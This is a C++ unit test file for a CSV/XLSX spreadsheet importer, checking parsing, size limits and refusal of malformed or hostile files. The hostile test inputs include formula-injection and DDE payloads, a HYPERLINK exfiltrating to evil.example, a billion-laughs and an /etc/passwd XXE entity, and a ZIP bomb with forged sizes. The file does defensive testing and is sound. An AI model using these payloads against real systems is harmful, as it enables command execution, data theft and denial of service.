#include "base/sheet_reader.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <string>
#include <vector>

#include "base/xlsx.h"
#include "base/zip.h"
#include "support/status_matchers.h"

namespace rampart {
namespace {

using test::StatusIs;
using Rows = std::vector<std::vector<std::string>>;
using Cells = std::vector<std::string>;
namespace fs = std::filesystem;

// The refusal `r` must be: its code, the field "file" and exactly `message`.
void ExpectRefusal(const Result<Sheet>& r, Code code, const std::string& message) {
  ASSERT_FALSE(r.ok()) << "read a sheet of " << r->rows.size() << " rows";
  EXPECT_THAT(r, StatusIs(code, "file"));
  EXPECT_EQ(r.status().message(), message);
}

void ExpectInvalid(const Result<Sheet>& r, const std::string& message) {
  ExpectRefusal(r, Code::kInvalidArgument, message);
}

void ExpectTooLarge(const Result<Sheet>& r, const std::string& message) {
  ExpectRefusal(r, Code::kTooLarge, message);
}

// ---------------------------------------------------------------------------------------------
// CSV

TEST(SheetCsvTest, ReadsQuotedCellsDoubledQuotesAndLineBreaksInsideQuotes) {
  const auto r = ReadCsv(
      "Name, Owner ,Notes\r\n"
      "\"Backup, offsite\",\"Ann \"\"the admin\"\"\",\"first\r\nsecond\"\r\n"
      "\r\n"
      "Firewall,Bob,  spaced  \r\n"
      "Laptop,\"\",\"a\"b\r\n");
  ASSERT_TRUE(r.ok()) << r.status().ToString();
  EXPECT_EQ(r->format, "csv");
  EXPECT_EQ(r->sheet_name, "");
  EXPECT_EQ(r->header, (Cells{"Name", "Owner", "Notes"}));
  // Data cells keep their white space; a line break inside quotes becomes "\n"; text after a
  // closing quote is kept, as spreadsheets do.
  EXPECT_EQ(r->rows, (Rows{{"Backup, offsite", "Ann \"the admin\"", "first\nsecond"},
                           {"Firewall", "Bob", "  spaced  "},
                           {"Laptop", "", "ab"}}));
  // The second record starts on line 2 and spans line 3; line 4 is blank.
  EXPECT_EQ(r->lines, (std::vector<int64_t>{2, 5, 6}));
}

TEST(SheetCsvTest, DetectsTheDelimiterFromTheHeader) {
  const auto semicolon = ReadCsv("Name;Score;Note\nA;1,5;\"x;y\"\n");
  ASSERT_TRUE(semicolon.ok()) << semicolon.status().ToString();
  EXPECT_EQ(semicolon->header, (Cells{"Name", "Score", "Note"}));
  EXPECT_EQ(semicolon->rows, (Rows{{"A", "1,5", "x;y"}}));

  const auto tab = ReadCsv("Name\tNote\nA\tb, c; d\n");
  ASSERT_TRUE(tab.ok()) << tab.status().ToString();
  EXPECT_EQ(tab->rows, (Rows{{"A", "b, c; d"}}));

  // Delimiters inside quotes of the header do not count; one column when there is none.
  const auto quoted = ReadCsv("\"a;b;c\",d\n1,2\n");
  ASSERT_TRUE(quoted.ok()) << quoted.status().ToString();
  EXPECT_EQ(quoted->header, (Cells{"a;b;c", "d"}));
  const auto single = ReadCsv("Title\n\"One, two\"\nThree\n");
  ASSERT_TRUE(single.ok()) << single.status().ToString();
  EXPECT_EQ(single->header, (Cells{"Title"}));
  EXPECT_EQ(single->rows, (Rows{{"One, two"}, {"Three"}}));
}

TEST(SheetCsvTest, AcceptsEveryLineEndAndDropsTheByteOrderMark) {
  for (const std::string end : {"\r\n", "\n", "\r"}) {
    SCOPED_TRACE(end == "\r" ? "CR" : end == "\n" ? "LF" : "CRLF");
    const auto r = ReadCsv("\xEF\xBB\xBFId,Title" + end + "1,A" + end + end + "2,B");
    ASSERT_TRUE(r.ok()) << r.status().ToString();
    EXPECT_EQ(r->header, (Cells{"Id", "Title"}));
    EXPECT_EQ(r->rows, (Rows{{"1", "A"}, {"2", "B"}}));
    EXPECT_EQ(r->lines, (std::vector<int64_t>{2, 4}));
  }
}

TEST(SheetCsvTest, SkipsBlankRowsAndPadsShortRows) {
  const auto r = ReadCsv("\n,,\nA,B,C,,\n1\n , ,\n2,3\n4,5,6,,\n");
  ASSERT_TRUE(r.ok()) << r.status().ToString();
  EXPECT_EQ(r->header, (Cells{"A", "B", "C"}));  // blank cells at its end dropped
  EXPECT_EQ(r->rows, (Rows{{"1", "", ""}, {"2", "3", ""}, {"4", "5", "6"}}));
  EXPECT_EQ(r->lines, (std::vector<int64_t>{4, 6, 7}));
}

TEST(SheetCsvTest, KeepsAColumnWithoutANameBetweenNamedOnes) {
  const auto r = ReadCsv("A,,C\n1,2,3\n");
  ASSERT_TRUE(r.ok()) << r.status().ToString();
  EXPECT_EQ(r->header, (Cells{"A", "", "C"}));
  EXPECT_EQ(r->rows, (Rows{{"1", "2", "3"}}));
}

TEST(SheetCsvTest, RefusesUtf16) {
  ExpectInvalid(ReadCsv(std::string("\xFF\xFE"
                                    "a\0,\0b\0",
                                    8)),
                "the file is UTF-16 text: save it as CSV UTF-8");
  ExpectInvalid(ReadCsv(std::string("\xFE\xFF\0a", 4)),
                "the file is UTF-16 text: save it as CSV UTF-8");
  // Without a byte order mark: every other byte is NUL.
  ExpectInvalid(ReadCsv(std::string("N\0a\0m\0e\0\n\0x\0\n\0", 14)),
                "the file is UTF-16 text: save it as CSV UTF-8");
}

TEST(SheetCsvTest, RefusesLatin1NamingTheLine) {
  ExpectInvalid(ReadCsv("Name,City\nA,Paris\nB,Z\xFCrich\n"),
                "line 3 is not UTF-8 text: the file looks like Windows-1252 or Latin-1 (what "
                "Excel writes as plain CSV); save it as CSV UTF-8");
  // Overlong forms and surrogates are not UTF-8 either; real UTF-8 is read.
  EXPECT_FALSE(ReadCsv("a\n\xC0\xAF\n").ok());
  EXPECT_FALSE(ReadCsv("a\n\xED\xA0\x80\n").ok());
  const auto ok = ReadCsv("Name\nZ\xC3\xBCrich \xE2\x82\xAC \xF0\x9F\x94\x92\n");
  ASSERT_TRUE(ok.ok()) << ok.status().ToString();
  EXPECT_EQ(ok->rows, (Rows{{"Z\xC3\xBCrich \xE2\x82\xAC \xF0\x9F\x94\x92"}}));
}

TEST(SheetCsvTest, RefusesNulBytes) {
  ExpectInvalid(ReadCsv(std::string("Name,Title,Owner,Status\nabc,def,ghi,jkl\nx\0y,z\n", 47)),
                "line 3 holds a NUL byte: the file is binary, not CSV text; save it as CSV UTF-8");
}

TEST(SheetCsvTest, RefusesFormulas) {
  ExpectInvalid(ReadCsv("A,B,C\n1,2,3\n4,5,6\n7,8,=SUM(A1:A3)\n"),
                "line 4, column C starts like a formula (=SUM(A1:A3)): Rampart imports values "
                "only (start the cell with an apostrophe to import it as text)");
  // DDE payloads and calls after + - @, also after white space and inside quotes.
  ExpectInvalid(ReadCsv("A\n\"+cmd|' /C calc'!A0\"\n"),
                "line 2, column A starts like a formula (+cmd|' /C calc'!A0): Rampart imports "
                "values only (start the cell with an apostrophe to import it as text)");
  EXPECT_FALSE(ReadCsv("A\n-2+3+cmd|' /C calc'!A0\n").ok());
  EXPECT_FALSE(ReadCsv("A\n@SUM(1+1)*cmd|' /C calc'!A0\n").ok());
  EXPECT_FALSE(ReadCsv("A\n \t=1+1\n").ok());
  EXPECT_FALSE(ReadCsv("=A\nb\n").ok());  // the header too
  // A long formula is shown cut.
  ExpectInvalid(ReadCsv("A\n=HYPERLINK(\"http://evil.example/steal?data=\"&B2)\n"),
                "line 2, column A starts like a formula (=HYPERLINK(\"http://evil.exampl...): "
                "Rampart imports values only (start the cell with an apostrophe to import it as "
                "text)");
}

TEST(SheetCsvTest, KeepsValuesThatOnlyStartWithASign) {
  const auto r = ReadCsv("A,B,C,D,E\n-3,- item,+44 20 7946 0958,@ home,-1.5e3\n");
  ASSERT_TRUE(r.ok()) << r.status().ToString();
  EXPECT_EQ(r->rows, (Rows{{"-3", "- item", "+44 20 7946 0958", "@ home", "-1.5e3"}}));
}

TEST(SheetCsvTest, ReadsRampartsNeutralisedCellsBackWithoutTheApostrophe) {
  // What the CSV export writes (CsvField) reads back as the values exported.
  const auto r = ReadCsv(
      "Title,Value,Other\r\n"
      "'=x,'-3,\"'=HYPERLINK(\"\"a\"\",\"\"b\"\")\"\r\n"
      "'+44 (0)20,'@SUM(1),'plain\r\n"
      "it's,',''=x\r\n");
  ASSERT_TRUE(r.ok()) << r.status().ToString();
  EXPECT_EQ(r->rows, (Rows{{"=x", "-3", "=HYPERLINK(\"a\",\"b\")"},
                           {"+44 (0)20", "@SUM(1)", "'plain"},
                           {"it's", "'", "''=x"}}));
}

TEST(SheetCsvTest, RefusesAnUnterminatedQuoteNamingItsLine) {
  ExpectInvalid(ReadCsv("A,B\n1,2\n3,\"open\nstill open\n4,5\n"),
                "the quoted cell that starts on line 3 (column B) has no closing quote");
}

TEST(SheetCsvTest, RefusesARowWithAValuePastTheHeader) {
  ExpectInvalid(ReadCsv("A,B\n1,2\n\n1,2,,\n1,2,,x\n"),
                "line 5 has a value in column D, but the header names 2 columns");
  ExpectInvalid(ReadCsv("A\n1,2\n"),
                "line 2 has a value in column B, but the header names 1 column");
}

TEST(SheetCsvTest, RefusesDuplicateColumnNames) {
  ExpectInvalid(ReadCsv("\nId,Owner,Title, owner \n"),
                "columns B and D of the first row (line 2) are both named \"owner\": name each "
                "column once");
}

TEST(SheetCsvTest, RefusesAFileWithoutColumns) {
  ExpectInvalid(ReadCsv(""), "the first row names no columns");
  ExpectInvalid(ReadCsv("\r\n , ,\n;;\n"), "the first row names no columns");
}

TEST(SheetCsvTest, RefusesMoreRowsThanTheLimit) {
  std::string text = "Id\n";
  for (int i = 0; i < 200000; ++i) text += "1\n";
  const auto limit = ReadCsv(text);
  ASSERT_TRUE(limit.ok()) << limit.status().ToString();
  EXPECT_EQ(limit->rows.size(), 200000u);
  EXPECT_EQ(limit->lines.back(), 200001);
  text += "1\n";
  ExpectTooLarge(ReadCsv(text), "the file has more than 200,000 rows below the header (the limit)");
}

TEST(SheetCsvTest, StopsAtTheRowLimitOfAHugeFile) {
  // 10,000,000 rows (20 MB): refused after reading the 200,001st, not after holding them all.
  std::string text(20000000, '\n');
  for (size_t i = 0; i < text.size(); i += 2) text[i] = 'x';
  const auto start = std::chrono::steady_clock::now();
  ExpectTooLarge(ReadCsv(text), "the file has more than 200,000 rows below the header (the limit)");
  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(5));
}

TEST(SheetCsvTest, RefusesMoreColumnsThanTheLimit) {
  std::string header = "c0";
  for (int i = 1; i < 500; ++i) header += ",c" + std::to_string(i);
  const auto limit = ReadCsv(header + "\n1\n");
  ASSERT_TRUE(limit.ok()) << limit.status().ToString();
  EXPECT_EQ(limit->header.size(), 500u);
  EXPECT_EQ(limit->rows[0].size(), 500u);
  ExpectTooLarge(ReadCsv("\n" + header + ",c500\n1\n"),
                 "the first row (line 2) names more than 500 columns (the limit)");
}

TEST(SheetCsvTest, RefusesMoreCellsThanTheLimit) {
  SheetLimits limits;
  limits.max_cells = 6;
  ASSERT_TRUE(ReadCsv("A,B\n1\n2\n3\n", limits).ok());
  ExpectTooLarge(
      ReadCsv("A,B\n1\n2\n3\n4\n", limits),
      "the file has more than 6 cells below the header (the limit): 4 rows of 2 columns");
}

TEST(SheetCsvTest, RefusesAFileOrACellLargerThanTheLimit) {
  SheetLimits limits;
  limits.max_bytes = 10;
  ASSERT_TRUE(ReadCsv("A\n12345678", limits).ok());
  ExpectTooLarge(ReadCsv("A\n123456789", limits), "the file is larger than 10 bytes (the limit)");
  ExpectTooLarge(ReadCsv(std::string((50 << 20) + 1, 'a')),
                 "the file is larger than 50 MiB (the limit)");

  limits = {};
  limits.max_cell_bytes = 4;
  ASSERT_TRUE(ReadCsv("A,B\n1,\"1234\"\n", limits).ok());
  ExpectTooLarge(ReadCsv("A,B\n1,12345\n", limits),
                 "line 2, column B holds more than 4 bytes (the limit)");
  ExpectTooLarge(ReadCsv("A,B\n1,\"12\n345\"\n", limits),
                 "line 2, column B holds more than 4 bytes (the limit)");
}

// ---------------------------------------------------------------------------------------------
// XLSX, built part by part

constexpr const char* kMain = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
constexpr const char* kRel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

// The parts of a small workbook: a sheet's rows (the inside of <sheetData>), and optionally the
// shared strings, the styles and the 1904 date system.
struct Book {
  std::string rows;
  std::string shared;  // the inside of <sst>, or empty for no part
  std::string styles;  // the inside of <styleSheet>, or empty for no part
  bool date1904 = false;
  std::string sheet_name = "Risks";
};

std::vector<ZipEntry> Parts(const Book& b) {
  const std::string rel_type =
      "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
  std::string rels = std::string("<?xml version=\"1.0\" encoding=\"UTF-8\"?>") +
                     "<Relationships "
                     "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" +
                     "<Relationship Id=\"rId1\" Type=\"" + rel_type +
                     "worksheet\" Target=\"worksheets/sheet1.xml\"/>";
  if (!b.shared.empty()) {
    rels += "<Relationship Id=\"rId2\" Type=\"" + rel_type +
            "sharedStrings\" Target=\"sharedStrings.xml\"/>";
  }
  if (!b.styles.empty()) {
    // Absolute, as some writers put it.
    rels += "<Relationship Id=\"rId3\" Type=\"" + rel_type + "styles\" Target=\"/xl/styles.xml\"/>";
  }
  rels += "</Relationships>";
  std::vector<ZipEntry> parts = {
      {"[Content_Types].xml",
       "<?xml version=\"1.0\"?><Types "
       "xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"},
      {"xl/workbook.xml", std::string("<?xml version=\"1.0\"?><workbook xmlns=\"") + kMain +
                              "\" xmlns:r=\"" + kRel + "\">" +
                              (b.date1904 ? "<workbookPr date1904=\"1\"/>" : "<workbookPr/>") +
                              "<sheets><sheet name=\"" + b.sheet_name +
                              "\" sheetId=\"1\" r:id=\"rId1\"/>"
                              "<sheet name=\"Other\" sheetId=\"2\" r:id=\"rId9\"/></sheets>"
                              "</workbook>"},
      {"xl/_rels/workbook.xml.rels", rels},
      {"xl/worksheets/sheet1.xml", std::string("<?xml version=\"1.0\"?><worksheet xmlns=\"") +
                                       kMain + "\"><sheetData>" + b.rows +
                                       "</sheetData></worksheet>"},
  };
  if (!b.shared.empty()) {
    parts.push_back({"xl/sharedStrings.xml", std::string("<?xml version=\"1.0\"?><sst xmlns=\"") +
                                                 kMain + "\">" + b.shared + "</sst>"});
  }
  if (!b.styles.empty()) {
    parts.push_back({"xl/styles.xml", std::string("<?xml version=\"1.0\"?><styleSheet xmlns=\"") +
                                          kMain + "\">" + b.styles + "</styleSheet>"});
  }
  return parts;
}

std::string Zip(const std::vector<ZipEntry>& parts) {
  auto bytes = ZipBytes(parts);
  EXPECT_TRUE(bytes.ok()) << bytes.status().ToString();
  return bytes.ok() ? *bytes : std::string();
}

std::string Xlsx(const Book& b) { return Zip(Parts(b)); }

TEST(SheetXlsxTest, ReadsBackAWorkbookRampartWrote) {
  const Cells header = {"Title", "Score", "Link", "Notes"};
  const Rows rows = {{"Ransomware", "95.5", "=HYPERLINK(\"http://x\")", "two\nlines"},
                     {"Phishing", "-3", "'kept", ""},
                     {"Flood", "1000000", "", "  spaced  "}};
  auto bytes = XlsxBytes("Risk register", header, rows, {false, true, false, false});
  ASSERT_TRUE(bytes.ok()) << bytes.status().ToString();
  const auto r = ReadXlsx(*bytes);
  ASSERT_TRUE(r.ok()) << r.status().ToString();
  EXPECT_EQ(r->format, "xlsx");
  EXPECT_EQ(r->sheet_name, "Risk register");
  EXPECT_EQ(r->header, header);
  EXPECT_EQ(r->rows, rows);  // text that looks like a formula is a value in a string cell
  EXPECT_EQ(r->lines, (std::vector<int64_t>{2, 3, 4}));
  const auto detected = ReadSheet(*bytes);
  ASSERT_TRUE(detected.ok()) << detected.status().ToString();
  EXPECT_EQ(detected->rows, rows);
}

TEST(SheetXlsxTest, ReadsSharedStringsNumbersBooleansAndSparseCells) {
  Book b;
  b.shared =
      "<si><t>Asset</t></si><si><t xml:space=\"preserve\"> Owner </t></si>"
      "<si><r><t>Lap</t></r><r><rPr><b/></rPr><t>top</t></r><rPh><t>ignored</t></rPh></si>"
      "<si><t>line_x000D_break</t></si><si/>";
  b.rows =
      "<row r=\"2\"><c r=\"A2\" t=\"s\"><v>0</v></c><c r=\"B2\" t=\"s\"><v>1</v></c>"
      "<c r=\"C2\" t=\"inlineStr\"><is><t>Count</t></is></c><c r=\"D2\" t=\"inlineStr\"><is><r>"
      "<t>Act</t></r><r><t>ive</t></r></is></c></row>"
      "<row r=\"3\" spans=\"1:4\"/>"
      "<row r=\"5\"><c r=\"A5\" t=\"s\"><v>2</v></c><c r=\"C5\"><v>1.0E3</v></c>"
      "<c r=\"D5\" t=\"b\"><v>1</v></c></row>"
      "<row r=\"9\"><c r=\"A9\" t=\"s\"><v>3</v></c><c r=\"B9\" t=\"str\"><v>x &amp; y</v></c>"
      "<c r=\"C9\"><v>0.1</v></c><c r=\"D9\" t=\"b\"><v>0</v></c><c r=\"E9\" t=\"s\"><v>4</v></c>"
      "</row>"
      // Cells without a reference follow the one before.
      "<row><c t=\"inlineStr\"><is><t>next</t></is></c><c><v>-2.50</v></c></row>";
  const auto r = ReadXlsx(Xlsx(b));
  ASSERT_TRUE(r.ok()) << r.status().ToString();
  EXPECT_EQ(r->sheet_name, "Risks");
  EXPECT_EQ(r->header, (Cells{"Asset", "Owner", "Count", "Active"}));
  EXPECT_EQ(r->rows, (Rows{{"Laptop", "", "1000", "true"},
                           {"line\rbreak", "x & y", "0.1", "false"},
                           {"next", "-2.5", "", ""}}));
  EXPECT_EQ(r->lines, (std::vector<int64_t>{5, 9, 10}));
}

TEST(SheetXlsxTest, ShowsNumbersWithDateFormatsAsDates) {
  Book b;
  b.styles =
      "<numFmts count=\"3\"><numFmt numFmtId=\"164\" formatCode=\"dd/mm/yyyy\"/>"
      "<numFmt numFmtId=\"165\" formatCode=\"yyyy\\-mm\\-dd\\ hh:mm:ss\"/>"
      "<numFmt numFmtId=\"166\" formatCode=\"#,##0.00\\ &quot;days&quot;;[Red]\\-0\"/></numFmts>"
      "<cellStyleXfs count=\"1\"><xf numFmtId=\"14\"/></cellStyleXfs>"
      "<cellXfs count=\"7\"><xf numFmtId=\"0\"/><xf numFmtId=\"14\"/><xf numFmtId=\"164\"/>"
      "<xf numFmtId=\"165\"/><xf numFmtId=\"22\"/><xf numFmtId=\"20\"/><xf numFmtId=\"166\"/>"
      "</cellXfs>";
  b.rows =
      "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>Plain</t></is></c>"
      "<c r=\"B1\" t=\"inlineStr\"><is><t>Builtin</t></is></c>"
      "<c r=\"C1\" t=\"inlineStr\"><is><t>Custom</t></is></c>"
      "<c r=\"D1\" t=\"inlineStr\"><is><t>Stamp</t></is></c>"
      "<c r=\"E1\" t=\"inlineStr\"><is><t>Builtin stamp</t></is></c>"
      "<c r=\"F1\" t=\"inlineStr\"><is><t>Time</t></is></c>"
      "<c r=\"G1\" t=\"inlineStr\"><is><t>Days</t></is></c></row>"
      "<row r=\"2\"><c r=\"A2\" s=\"0\"><v>45366</v></c><c r=\"B2\" s=\"1\"><v>45366</v></c>"
      "<c r=\"C2\" s=\"2\"><v>45366</v></c><c r=\"D2\" s=\"3\"><v>45366.5208449074</v></c>"
      "<c r=\"E2\" s=\"4\"><v>45366.75</v></c><c r=\"F2\" s=\"5\"><v>0.5</v></c>"
      "<c r=\"G2\" s=\"6\"><v>3</v></c></row>"
      // The first days of the 1900 system, before Excel's 29 February 1900.
      "<row r=\"3\"><c r=\"B3\" s=\"1\"><v>1</v></c><c r=\"C3\" s=\"2\"><v>59</v></c>"
      "<c r=\"E3\" s=\"4\"><v>61</v></c></row>";
  const auto r = ReadXlsx(Xlsx(b));
  ASSERT_TRUE(r.ok()) << r.status().ToString();
  EXPECT_EQ(r->rows, (Rows{{"45366", "2024-03-15", "2024-03-15", "2024-03-15 12:30:01",
                            "2024-03-15 18:00", "12:00", "3"},
                           {"", "1900-01-01", "1900-02-28", "", "1900-03-01 00:00", "", ""}}));

  b.date1904 = true;
  const auto r1904 = ReadXlsx(Xlsx(b));
  ASSERT_TRUE(r1904.ok()) << r1904.status().ToString();
  EXPECT_EQ(r1904->rows[0][1], "2028-03-16");  // 1,462 days later
  EXPECT_EQ(r1904->rows[1][1], "1904-01-02");
}

TEST(SheetXlsxTest, RefusesAFormulaEvenWithItsValue) {
  Book b;
  b.rows =
      "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>A</t></is></c>"
      "<c r=\"C1\" t=\"inlineStr\"><is><t>C</t></is></c></row>"
      "<row r=\"7\"><c r=\"A7\"><v>1</v></c><c r=\"C7\"><f>SUM(A1:A6)</f><v>21</v></c></row>";
  ExpectInvalid(ReadXlsx(Xlsx(b)),
                "cell C7 holds a formula: Rampart imports values only; copy the cells and paste "
                "them as values, then upload the file again");
}

TEST(SheetXlsxTest, RefusesAnErrorValue) {
  Book b;
  b.rows =
      "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>A</t></is></c></row>"
      "<row r=\"2\"><c r=\"A2\" t=\"e\"><v>#REF!</v></c></row>";
  ExpectInvalid(ReadXlsx(Xlsx(b)),
                "cell A2 holds the error #REF!: correct the cell or clear it, then upload the "
                "file again");
}

TEST(SheetXlsxTest, AppliesTheHeaderRulesAndLimits) {
  Book b;
  b.rows =
      "<row r=\"3\"><c r=\"A3\" t=\"inlineStr\"><is><t>Id</t></is></c>"
      "<c r=\"B3\" t=\"inlineStr\"><is><t>ID </t></is></c></row>";
  ExpectInvalid(ReadXlsx(Xlsx(b)),
                "columns A and B of the first row (row 3) are both named \"ID\": name each column "
                "once");
  b.rows =
      "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>Id</t></is></c></row>"
      "<row r=\"2\"><c r=\"A2\"><v>1</v></c><c r=\"Z2\" t=\"inlineStr\"><is><t> </t></is></c>"
      "</row>"
      "<row r=\"4\"><c r=\"A4\"><v>1</v></c><c r=\"XFD4\"><v>2</v></c></row>";
  ExpectInvalid(ReadXlsx(Xlsx(b)),
                "row 4 has a value in column XFD, but the header names 1 column");
  b.rows = "<row r=\"1\"><c r=\"ZZ1\" t=\"inlineStr\"><is><t>far</t></is></c></row>";
  ExpectTooLarge(ReadXlsx(Xlsx(b)),
                 "the first row (row 1) names more than 500 columns (the limit)");
  b.rows = "<row r=\"1\"/>";
  ExpectInvalid(ReadXlsx(Xlsx(b)), "the first row names no columns");

  std::string rows = "<row r=\"1\"><c t=\"inlineStr\"><is><t>Id</t></is></c></row>";
  for (int i = 2; i <= 5; ++i) rows += "<row><c><v>" + std::to_string(i) + "</v></c></row>";
  b.rows = rows;
  SheetLimits limits;
  limits.max_rows = 4;
  ASSERT_TRUE(ReadXlsx(Xlsx(b), limits).ok());
  limits.max_rows = 3;
  ExpectTooLarge(ReadXlsx(Xlsx(b), limits),
                 "the file has more than 3 rows below the header (the limit)");
  limits = {};
  limits.max_cell_bytes = 3;
  b.rows =
      "<row r=\"1\"><c t=\"inlineStr\"><is><t>Id</t></is></c></row>"
      "<row><c t=\"inlineStr\"><is><t>long</t></is></c></row>";
  ExpectTooLarge(ReadXlsx(Xlsx(b), limits), "cell A2 holds more than 3 bytes (the limit)");
}

TEST(SheetXlsxTest, RefusesRowsOrCellsOutOfOrder) {
  Book b;
  b.rows =
      "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>A</t></is></c></row>"
      "<row r=\"3\"/><row r=\"2\"/>";
  ExpectInvalid(ReadXlsx(Xlsx(b)),
                "the workbook is damaged: row 2 comes after row 3 in the worksheet");
  b.rows =
      "<row r=\"1\"><c r=\"B1\" t=\"inlineStr\"><is><t>B</t></is></c>"
      "<c r=\"A1\" t=\"inlineStr\"><is><t>A</t></is></c></row>";
  ExpectInvalid(ReadXlsx(Xlsx(b)),
                "the workbook is damaged: cell A1 comes after column B in its row");
}

TEST(SheetXlsxTest, RefusesAChartAsTheFirstSheet) {
  auto parts = Parts(Book{});
  std::string& rels = parts[2].bytes;
  rels.replace(rels.find("/worksheet\""), 11, "/chartsheet\"");
  ExpectInvalid(ReadXlsx(Zip(parts)),
                "the first sheet of the workbook, \"Risks\", is not a worksheet (a chart or dialog "
                "sheet): move the table to the first sheet");
}

TEST(SheetXlsxTest, RefusesADocumentTypeDeclaration) {
  Book b;
  b.rows = "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>&lol9;</t></is></c></row>";
  auto parts = Parts(b);
  std::string laughs = "<!DOCTYPE worksheet [<!ENTITY lol \"lol\">";
  laughs += "<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">";
  for (int i = 2; i <= 9; ++i) {
    laughs += "<!ENTITY lol" + std::to_string(i) + " \"";
    for (int k = 0; k < 10; ++k) laughs += "&lol" + std::to_string(i - 1) + ";";
    laughs += "\">";
  }
  laughs += "]>";
  std::string& sheet = parts[3].bytes;
  sheet.insert(sheet.find("<worksheet"), laughs);
  ExpectInvalid(ReadXlsx(Zip(parts)),
                "xl/worksheets/sheet1.xml holds a document type declaration (DOCTYPE), which "
                "workbooks never do: the file is refused");

  // An external entity is neither fetched nor read.
  parts = Parts(b);
  parts[1].bytes.insert(parts[1].bytes.find("<workbook"),
                        "<!DOCTYPE workbook [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>");
  ExpectInvalid(ReadXlsx(Zip(parts)),
                "xl/workbook.xml holds a document type declaration (DOCTYPE), which workbooks "
                "never do: the file is refused");
}

TEST(SheetXlsxTest, RefusesWhatIsNotAWorkbook) {
  ExpectInvalid(ReadXlsx("Name,Title\n"),
                "the file is not an .xlsx workbook (it is not a ZIP archive)");
  ExpectInvalid(ReadXlsx(Zip({{"word/document.xml", "<w/>"}})),
                "the file is not an .xlsx workbook: it has no xl/workbook.xml");
  auto parts = Parts(Book{});
  parts.erase(parts.begin() + 3);  // the worksheet
  ExpectInvalid(ReadXlsx(Zip(parts)),
                "the workbook is damaged: it has no xl/worksheets/sheet1.xml");
  parts = Parts(Book{});
  parts[3].bytes = "<worksheet><sheetData><row>";
  ExpectInvalid(ReadXlsx(Zip(parts)),
                "the workbook is damaged: xl/worksheets/sheet1.xml is not well-formed XML "
                "(line 1)");
  // A truncated archive.
  const std::string whole = Xlsx(Book{});
  EXPECT_THAT(ReadXlsx(whole.substr(0, whole.size() / 2)),
              StatusIs(Code::kInvalidArgument, "file"));
}

TEST(SheetXlsxTest, RefusesMoreThanTenThousandEntries) {
  auto parts = Parts(Book{});
  for (int i = 0; i < 9997; ++i) parts.push_back({"xl/media/f" + std::to_string(i), ""});
  ASSERT_EQ(parts.size(), 10001u);
  ExpectTooLarge(ReadXlsx(Zip(parts)),
                 "the file holds more than 10,000 archive entries (the limit): it is not a "
                 "workbook Rampart reads");
}

// A workbook whose worksheet is 300 MB: a header, then white space, which deflate packs about
// a thousand to one. Built once (it takes a second or two).
const std::string& Bomb() {
  static const std::string bomb = [] {
    constexpr size_t size = 300u << 20;
    std::string sheet = std::string("<worksheet xmlns=\"") + kMain +
                        "\"><sheetData><row r=\"1\"><c t=\"inlineStr\"><is><t>Id</t></is></c>"
                        "</row>";
    const std::string tail = "</sheetData></worksheet>";
    sheet.resize(size - tail.size(), ' ');
    sheet += tail;
    auto parts = Parts(Book{});
    parts[3].bytes = std::move(sheet);
    return Zip(parts);
  }();
  return bomb;
}

// Rewrites the uncompressed size that the archive declares for `name` (in its local header and
// in the central directory) to `size`: an archive that lies.
void Declare(std::string& zip, const std::string& name, uint32_t size) {
  auto put = [&](size_t at) {
    for (int k = 0; k < 4; ++k) zip[at + k] = static_cast<char>((size >> (8 * k)) & 0xFF);
  };
  for (size_t at = zip.find("PK\x03\x04"); at != std::string::npos;
       at = zip.find("PK\x03\x04", at + 4)) {
    if (zip.compare(at + 30, name.size(), name) == 0) put(at + 22);
  }
  for (size_t at = zip.find("PK\x01\x02"); at != std::string::npos;
       at = zip.find("PK\x01\x02", at + 4)) {
    if (zip.compare(at + 46, name.size(), name) == 0) put(at + 24);
  }
}

TEST(SheetXlsxTest, RefusesAZipBombByItsDeclaredSize) {
  const std::string& bomb = Bomb();
  ASSERT_LT(bomb.size(), 2u << 20);
  ExpectTooLarge(ReadXlsx(bomb),
                 "xl/worksheets/sheet1.xml unpacks to more than 200 times its packed size (the "
                 "limit): the file looks like a ZIP bomb");
  SheetLimits limits;
  limits.max_ratio = 100000;
  limits.max_unpacked_bytes = 100 << 20;
  ExpectTooLarge(ReadXlsx(bomb, limits), "the workbook unpacks to more than 100 MiB (the limit)");
}

TEST(SheetXlsxTest, RefusesAZipBombThatLiesAboutItsSize) {
  // libzip inflates no more than the size declared: the sheet ends there, cut.
  std::string bomb = Bomb();
  Declare(bomb, "xl/worksheets/sheet1.xml", 2u << 20);
  const auto start = std::chrono::steady_clock::now();
  ExpectInvalid(ReadXlsx(bomb),
                "the workbook is damaged: xl/worksheets/sheet1.xml is not well-formed XML "
                "(line 1)");
  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(2));
}

// ---------------------------------------------------------------------------------------------
// Detection

TEST(SheetReaderTest, DetectsTheFormatFromTheBytes) {
  const auto csv = ReadSheet("A;B\n1;2\n");
  ASSERT_TRUE(csv.ok()) << csv.status().ToString();
  EXPECT_EQ(csv->format, "csv");
  const auto xlsx = ReadSheet(Xlsx(Book{"<row><c t=\"inlineStr\"><is><t>A</t></is></c></row>"}));
  ASSERT_TRUE(xlsx.ok()) << xlsx.status().ToString();
  EXPECT_EQ(xlsx->format, "xlsx");
  EXPECT_EQ(xlsx->header, (Cells{"A"}));
  ExpectInvalid(ReadSheet(std::string("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1\0\0\0\0", 12)),
                "the file is an Excel 97-2003 workbook (.xls) or a password-protected one: .xls "
                "is not read; save it without a password as .xlsx or CSV UTF-8");
}

